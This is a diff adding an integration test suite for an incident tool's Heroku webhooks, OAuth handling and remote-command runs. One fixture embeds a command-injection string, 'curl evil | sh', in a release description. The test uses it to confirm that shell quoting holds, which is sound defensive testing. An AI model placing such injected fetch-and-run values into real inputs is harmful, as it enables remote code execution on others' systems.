@@ -1,0 +1,242 @@
+import { randomUUID } from 'node:crypto';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { postWebhook, startTestStack, waitFor, type TestStack } from '../support/stack.js';
+import { startFakeHeroku, type FakeHeroku } from '../support/fake-heroku.js';
+import { startFakeSlack, type FakeSlack } from '../support/fake-slack.js';
+
+const TOKEN = 'heroku-api-token-for-tests';
+let heroku: FakeHeroku;
+let slack: FakeSlack;
+let stack: TestStack;
+
+beforeAll(async () => {
+  heroku = await startFakeHeroku();
+  slack = await startFakeSlack();
+  heroku.addToken(TOKEN, { apps: ['shop', 'shop-api', 'billing', 'spare', 'runner'], forbidden: ['locked'] });
+  stack = await startTestStack({
+    config: {
+      HEROKU_API_URL: heroku.apiUrl,
+      HEROKU_ID_URL: heroku.idUrl,
+      HEROKU_OAUTH_ID: heroku.oauth.clientId,
+      HEROKU_OAUTH_SECRET: heroku.oauth.clientSecret,
+      RENDEZVOUS_CA_FILE: heroku.rendezvous.caFile,
+      SLACK_BOT_TOKEN: slack.token,
+      SLACK_API_URL: slack.apiUrl,
+      SLACK_CHANNEL_INTERVAL_MS: '50',
+    },
+  });
+  stack.startWorker();
+});
+afterAll(async () => {
+  await stack?.stop();
+  await heroku?.close();
+  await slack?.close();
+});
+
+const create = (monitoredApps: string[], apiToken: string | null = TOKEN) =>
+  stack.call('POST', '/api/v1/integrations/heroku', { body: { name: `account ${randomUUID().slice(0, 6)}`, monitoredApps, ...(apiToken && { apiToken }) } });
+
+describe('managed webhooks', () => {
+  it('creating an integration creates a sync webhook on every monitored app; an app the token cannot reach gets a clear error, the others still get theirs', async () => {
+    const created = await create(['shop', 'shop-api', 'locked', 'nowhere']);
+    expect(created.status).toBe(201);
+    const byApp = Object.fromEntries(created.body.managedWebhooks.map((w: { appName: string }) => [w.appName, w]));
+    expect(byApp.shop).toMatchObject({ state: 'active', webhookId: expect.any(String), error: null });
+    expect(byApp['shop-api']).toMatchObject({ state: 'active' });
+    expect(byApp.locked).toMatchObject({ state: 'failed', webhookId: null, error: 'Heroku: You do not have access to the app locked. (forbidden)' });
+    expect(byApp.nowhere).toMatchObject({ state: 'failed', error: "Heroku: Couldn't find that app. (not_found)" });
+
+    const [webhook] = heroku.webhooks('shop');
+    expect(webhook).toMatchObject({ level: 'sync', url: created.body.webhookUrl, secret: created.body.secret, id: byApp.shop.webhookId });
+    expect(webhook!.include.sort()).toEqual(['api:addon', 'api:addon-attachment', 'api:app', 'api:build', 'api:collaborator', 'api:domain', 'api:dyno', 'api:formation', 'api:release', 'api:sni-endpoint', 'api:ssl-endpoint', 'dyno']);
+    expect(heroku.calls.filter((c) => c.token !== null).every((c) => c.token === TOKEN)).toBe(true);
+    // The REST API shows each webhook's state, never the token.
+    const shown = await stack.call('GET', `/api/v1/integrations/heroku/${created.body.id}`);
+    expect(shown.body.managedWebhooks).toHaveLength(4);
+    expect(JSON.stringify(shown.body)).not.toContain(TOKEN);
+  });
+
+  it('an empty list creates none; changing monitoredApps adds and removes webhooks to match', async () => {
+    const created = await create([]);
+    expect(created.body.managedWebhooks).toEqual([]);
+    const before = heroku.calls.length;
+    expect(heroku.calls.slice(before)).toEqual([]);
+
+    const first = await stack.call('PATCH', `/api/v1/integrations/heroku/${created.body.id}`, { body: { monitoredApps: ['billing', 'spare'] } });
+    expect(first.body.managedWebhooks.map((w: { appName: string; state: string }) => `${w.appName}:${w.state}`)).toEqual(['billing:active', 'spare:active']);
+    const spareWebhook = heroku.webhooks('spare')[0]!;
+    const second = await stack.call('PATCH', `/api/v1/integrations/heroku/${created.body.id}`, { body: { monitoredApps: ['billing'] } });
+    expect(second.body.managedWebhooks.map((w: { appName: string }) => w.appName)).toEqual(['billing']);
+    expect(heroku.webhooks('spare').find((w) => w.id === spareWebhook.id)).toBeUndefined();
+    expect(heroku.webhooks('billing').filter((w) => w.url === created.body.webhookUrl)).toHaveLength(1);
+  });
+
+  it('rotating the secret updates every managed webhook; deleting the integration deletes them first', async () => {
+    const created = await create(['spare']);
+    const rotated = await stack.call('POST', `/api/v1/integrations/heroku/${created.body.id}/rotate-secret`);
+    expect(heroku.webhooks('spare').find((w) => w.url === created.body.webhookUrl)?.secret).toBe(rotated.body.secret);
+
+    heroku.failNext({ method: 'DELETE', path: /\/webhooks\// }, 4, { status: 503, id: 'unavailable', message: 'Service unavailable' });
+    const refused = await stack.call('DELETE', `/api/v1/integrations/heroku/${created.body.id}`);
+    expect(refused.status).toBe(502);
+    expect(refused.body.error.message).toMatch(/could not delete a managed webhook on Heroku \(Service unavailable \(unavailable\)\); the integration is kept/);
+    expect((await stack.call('GET', `/api/v1/integrations/heroku/${created.body.id}`)).status).toBe(200);
+
+    expect((await stack.call('DELETE', `/api/v1/integrations/heroku/${created.body.id}`)).status).toBe(204);
+    expect(heroku.webhooks('spare').find((w) => w.url === created.body.webhookUrl)).toBeUndefined();
+  });
+
+  it('retries 429 after Retry-After and adopts a webhook that already has our URL', async () => {
+    heroku.failNext({ method: 'POST', path: /\/webhooks$/ }, 1, { status: 429, id: 'rate_limit', message: 'Your account reached the API rate limit', retryAfter: 1 });
+    const started = Date.now();
+    const created = await create(['runner']);
+    expect(created.body.managedWebhooks[0]).toMatchObject({ appName: 'runner', state: 'active' });
+    expect(Date.now() - started).toBeGreaterThanOrEqual(900);
+    // Heroku already has this URL (an earlier attempt whose answer was lost): it is adopted, not duplicated.
+    await stack.sql("UPDATE managed_webhooks SET state = 'failed', webhook_id = NULL WHERE app_name = 'runner'");
+    const synced = await stack.call('POST', `/api/v1/integrations/heroku/${created.body.id}/sync-webhooks`);
+    expect(synced.body.managedWebhooks[0]).toMatchObject({ appName: 'runner', state: 'active' });
+    expect(heroku.webhooks('runner').filter((w) => w.url === created.body.webhookUrl)).toHaveLength(1);
+  });
+});
+
+describe('Heroku OAuth', () => {
+  it('connects, refreshes expired tokens, and shows a clear reason when the refresh token is revoked', async () => {
+    heroku.oauth.setAccountApps(['billing']);
+    // Shorter than the refresh margin: every use needs a refreshed token.
+    heroku.oauth.setAccessTokenTtl(60);
+    const created = await create(['billing'], null);
+    expect(created.body.connection).toBe('none');
+
+    const start = await fetch(`${stack.url}/api/v1/integrations/heroku/${created.body.id}/oauth/start`, { headers: { authorization: `Bearer ${'test-admin-token-0123456789'}` }, redirect: 'manual' });
+    expect(start.status).toBe(302);
+    const authorize = new URL(start.headers.get('location')!);
+    expect(`${authorize.origin}${authorize.pathname}`).toBe(`${heroku.idUrl}/oauth/authorize`);
+    expect(Object.fromEntries(authorize.searchParams)).toMatchObject({ client_id: heroku.oauth.clientId, response_type: 'code', scope: 'write' });
+
+    const approved = await fetch(authorize, { redirect: 'manual' });
+    const back = new URL(approved.headers.get('location')!, heroku.idUrl);
+    const code = back.searchParams.get('code')!;
+    const state = back.searchParams.get('state')!;
+    expect(state).toBe(authorize.searchParams.get('state'));
+
+    const forged = await fetch(`${stack.url}/oauth/heroku/callback?code=${code}&state=${state.slice(0, -2)}xx`);
+    expect(forged.status).toBe(400);
+    const callback = await fetch(`${stack.url}/oauth/heroku/callback?code=${code}&state=${encodeURIComponent(state)}`);
+    expect(callback.status).toBe(200);
+    const connected = (await callback.json()) as any;
+    expect(connected.managedWebhooks).toEqual([expect.objectContaining({ appName: 'billing', state: 'active' })]);
+    const [row] = await stack.sql('SELECT oauth_access_token_ciphertext, oauth_refresh_token_ciphertext FROM heroku_integrations WHERE id = $1', [created.body.id]);
+    const issued = heroku.oauth.issued();
+    expect(row.oauth_refresh_token_ciphertext).not.toContain(issued[0]!.refreshToken);
+    // The first access token was about to expire: Heroku was called with a refreshed one.
+    expect(issued.length).toBeGreaterThanOrEqual(2);
+
+    heroku.oauth.revoke();
+    const after = await stack.call('POST', `/api/v1/integrations/heroku/${created.body.id}/rotate-secret`);
+    expect(after.status).toBe(200);
+    const shown = await stack.call('GET', `/api/v1/integrations/heroku/${created.body.id}`);
+    expect(shown.body).toMatchObject({ status: 'disconnected', connection: 'oauth' });
+    expect(shown.body.statusReason).toMatch(/Heroku refused to refresh the OAuth token .*revoked or has expired\. Connect with Heroku again\./);
+  });
+});
+
+describe('Run command on Heroku', () => {
+  let integration: { id: string; secret: string };
+  let incidentId: string;
+
+  beforeAll(async () => {
+    integration = (await create(['runner'])).body;
+    // An incident whose title carries shell syntax from a payload.
+    const event = { id: randomUUID(), resource: 'release', action: 'update', data: { id: randomUUID(), app: { name: 'runner' }, status: 'failed', version: 9, description: 'x"; curl evil | sh; "' }, created_at: new Date().toISOString() };
+    expect((await postWebhook(stack, integration.id, JSON.stringify(event), { secret: integration.secret })).status).toBe(202);
+    incidentId = await waitFor(async () => (await stack.sql("SELECT id FROM incidents WHERE app_name = 'runner'"))[0]?.id);
+  });
+
+  const runIt = async (body: Record<string, unknown>) => {
+    const response = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', ...body } });
+    expect(response.status, JSON.stringify(response.body)).toBe(202);
+    return waitFor(async () => {
+      const run = await stack.call('GET', `/api/v1/action-runs/${response.body.runId}`);
+      return run.body.status === 'succeeded' || run.body.status === 'failed' ? run.body : undefined;
+    }, { what: 'run finished', timeoutMs: 20_000 });
+  };
+
+  it('runs the command with values shell-quoted, records output and exit status, caps time to live, posts to the timeline and Slack', async () => {
+    const run = await runIt({ command: 'echo {{ incident.title }}; echo on {{ app.name }}', timeToLive: 7200, postToTimeline: true, slackChannels: ['#ops'] });
+    expect(run).toMatchObject({ status: 'succeeded', exitStatus: 0, error: null, dynoSize: 'standard-1X', timeToLive: 1800, requestedBy: 'admin (ADMIN_TOKEN)' });
+    expect(run.output).toBe(`Release v9 failed on runner: x"; curl evil | sh; "\non runner\n`);
+    const dyno = heroku.dynos('runner').at(-1)!;
+    expect(dyno).toMatchObject({ attach: true, size: 'standard-1X', time_to_live: 1800, type: 'run' });
+    expect(dyno.command).toBe(`(\necho 'Release v9 failed on runner: x"; curl evil | sh; "'; echo on 'runner'\n); echo "\uFFFF heroku-command-exit-status: $?"`);
+
+    const timeline = (await stack.call('GET', `/api/v1/incidents/${incidentId}`)).body.timeline;
+    expect(timeline.find((t: { kind: string }) => t.kind === 'action_run').message).toMatch(/^admin \(ADMIN_TOKEN\) ran `echo .*` on runner \(run\.\d+\): succeeded \(exit status 0\)$/);
+    const upload = await waitFor(() => slack.uploads().find((u) => u.completed && u.bytes.toString() === run.output));
+    expect(upload.channel).toBe('C0OPS0001');
+  });
+
+  it('reports a non-zero exit status', async () => {
+    const run = await runIt({ command: 'echo about to fail; exit 3' });
+    expect(run).toMatchObject({ status: 'failed', exitStatus: 3, output: 'about to fail\n', error: 'the command exited with status 3' });
+  });
+
+  it('says plainly when the time to live runs out', async () => {
+    const run = await runIt({ command: 'echo started; sleep 30', timeToLive: 1 });
+    expect(run.status).toBe('failed');
+    expect(run.exitStatus).toBeNull();
+    expect(run.output).toBe('started\n');
+    expect(run.error).toMatch(/^timed out: the dyno's time to live \(1 s\) ran out/);
+  });
+
+  it('reports Heroku refusing the dyno, a refused Rendezvous connection and a TLS failure', async () => {
+    heroku.failNext({ method: 'POST', path: /\/dynos$/ }, 1, { status: 403, id: 'forbidden', message: 'You do not have access to the app runner.' });
+    expect((await runIt({ command: 'echo hi' })).error).toBe('Heroku refused to start the dyno on runner: You do not have access to the app runner. (forbidden)');
+
+    await heroku.rendezvous.setRefusing(true);
+    try {
+      expect((await runIt({ command: 'echo hi' })).error).toMatch(/could not connect to the dyno at 127\.0\.0\.1:\d+: connection refused/);
+    } finally {
+      await heroku.rendezvous.setRefusing(false);
+    }
+
+    heroku.rendezvous.setTlsBroken(true);
+    try {
+      expect((await runIt({ command: 'echo hi' })).error).toMatch(/(TLS handshake with the dyno|connection to the dyno) at 127\.0\.0\.1:\d+ failed/);
+    } finally {
+      heroku.rendezvous.setTlsBroken(false);
+    }
+  });
+
+  it('a 409 right after a release is retried; a retried job never starts a second dyno', async () => {
+    heroku.failNext({ method: 'POST', path: /\/dynos$/ }, 1, { status: 409, id: 'conflict', message: 'A release is in progress' });
+    expect(await runIt({ command: 'echo after conflict' })).toMatchObject({ status: 'succeeded', output: 'after conflict\n' });
+
+    const dynosBefore = heroku.dynos('runner').length;
+    const run = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command: 'echo again' } });
+    await waitFor(async () => (await stack.call('GET', `/api/v1/action-runs/${run.body.runId}`)).body.status !== 'queued');
+    const finished = await waitFor(async () => {
+      const body = (await stack.call('GET', `/api/v1/action-runs/${run.body.runId}`)).body;
+      return body.status === 'succeeded' ? body : undefined;
+    });
+    // Replaying the job (as BullMQ does after a crash) leaves the run as it is and starts nothing.
+    await stack.sql("UPDATE action_runs SET status = 'running', finished_at = NULL WHERE id = $1", [finished.id]);
+    await stack.runtime.queues.heroku.add('heroku.run', { runId: finished.id }, { jobId: `retry-${finished.id}` });
+    const retried = await waitFor(async () => {
+      const body = (await stack.call('GET', `/api/v1/action-runs/${finished.id}`)).body;
+      return body.status === 'failed' ? body : undefined;
+    });
+    expect(retried.error).toMatch(/pulsebridge stopped while the command was running \(dyno .*\); it was not started again/);
+    expect(heroku.dynos('runner')).toHaveLength(dynosBefore + 1);
+  });
+
+  it('refuses an app no integration can reach and a broken command template', async () => {
+    const noApp = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'unmonitored', command: 'echo hi' } });
+    expect(noApp.status).toBe(409);
+    const broken = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command: 'echo {{ incident.title | explode }}' } });
+    expect(broken.status).toBe(400);
+    expect(broken.body.error.message).toMatch(/undefined filter: explode/);
+    const badSize = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command: 'echo hi', dynoSize: 'performance-l' } });
+    expect(badSize.status).toBe(400);
+  });
+});
